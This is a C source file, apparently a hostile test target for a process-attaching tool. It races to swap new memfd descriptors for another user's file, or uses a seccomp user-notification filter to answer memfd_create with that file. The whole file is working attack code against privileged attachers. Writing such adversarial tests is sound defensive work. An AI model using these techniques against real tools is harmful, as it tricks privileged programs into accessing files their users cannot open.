/* SPDX-License-Identifier: MIT */
/*
 * swapper.c - a hostile program: the file that an attach makes in it is exchanged for one of another
 * user, which it may name but not open.
 *
 *     swapper swap FILE     a second thread puts FILE at the number of each new memory file
 *     swapper answer FILE   memfd_create(2) of the second thread is answered with FILE by a filter
 *
 * Root becomes "nobody" first.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#define NOBODY 65534
#define NUMBERS 4

static int file;
static int listener = -1;

static void *swap(void *arg)
{
	for (;;)
		for (int fd = file + 1; fd < file + NUMBERS; fd++)
			if (fcntl(fd, F_GET_SEALS) >= 0)
				dup2(file, fd);
	return NULL;
}

static void *answer(void *arg)
{
	struct seccomp_notif call;
	struct seccomp_notif_resp reply;

	while (listener < 0)
		usleep(1000);
	for (;;) {
		memset(&call, 0, sizeof(call));
		if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &call))
			continue;
		memset(&reply, 0, sizeof(reply));
		reply.id = call.id;
		reply.val = file;
		ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &reply);
	}
	return NULL;
}

static void *be_filtered(void *arg)
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_memfd_create, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog program = { sizeof(code) / sizeof(code[0]), code };

	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	listener = (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER,
				SECCOMP_FILTER_FLAG_NEW_LISTENER, &program);
	for (;;)
		pause();
	return NULL;
}

/* By its name nothing can be loaded while a thread is in it. */
__attribute__((noinline)) static void wait_inside_malloc(pthread_t thread)
{
	pthread_join(thread, NULL);
	__asm__ volatile("");
}

int main(int argc, char **argv)
{
	pthread_t threads[2];

	if (argc < 3 || (!geteuid() && (setgid(NOBODY) || setuid(NOBODY))))
		return 2;
	prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
	file = open(argv[2], O_PATH);
	if (file < 0)
		return 2;
	if (!strcmp(argv[1], "swap")) {
		pthread_create(&threads[0], NULL, swap, NULL);
		for (;;)
			pause();
	}
	pthread_create(&threads[0], NULL, answer, NULL);
	pthread_create(&threads[1], NULL, be_filtered, NULL);
	wait_inside_malloc(threads[1]);
	return 0;
}
